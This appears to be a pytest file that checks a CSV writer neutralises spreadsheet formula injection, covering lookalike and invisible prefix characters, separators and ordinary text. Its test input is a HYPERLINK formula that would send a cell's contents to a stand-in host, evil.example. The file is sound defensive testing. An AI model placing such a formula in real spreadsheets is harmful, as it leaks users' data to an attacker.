"""Sheets for people: no text becomes a formula in any spreadsheet program."""

import csv
from pathlib import Path

import pytest

from stages.rating import sheet

BLANKS = (" ", "\u3000", "\ufeff", "\u2003", "\u200b", "\xad", "\u2060", "\x00", "\xa0 \u200d", "\ufe0f")
UNSEEN = [f"{sign}=" for sign in BLANKS]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "⁼", "﹢", "﹣", *UNSEEN])
def test_text_like_a_formula_stays_text(tmp_path: Path, sign: str) -> None:
    text = sign + 'HYPERLINK("https://evil.example?"&A1,"open")'
    sheet.write(tmp_path / "a.csv", ["row", "text"], [[1, text]])
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row == {"row": "1", "text": f"'{text}"}


@pytest.mark.parametrize("sign", ["=", "+", "@", "－", "\u2003=", "\u200b﹦"])
@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n", "\r", "; ", "\u2028", "\n\n\t;", "\v"])
def test_formula_after_another_separator_stays_text(separator: str, sign: str) -> None:
    first, stripped = separator.rstrip(" "), separator[len(separator.rstrip(" ")) :]
    assert sheet._cell(f"x{separator}{sign}1+1") == f"x{first}'{stripped}{sign}1+1"
    assert sheet._cell(f"{separator}{sign}1+1") == f"{first}'{stripped}{sign}1+1"


@pytest.mark.parametrize("text", ["5 = 2 + 3", "a-b", "me@example.org", " text", "", "你好", "a; b", "a\n\nb", ";"])
def test_other_text_stays_as_it_is(tmp_path: Path, text: str) -> None:
    sheet.write(tmp_path / "a.csv", ["row", "text"], [[-1, text]])
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.DictReader(file)) == [{"row": "-1", "text": text}]
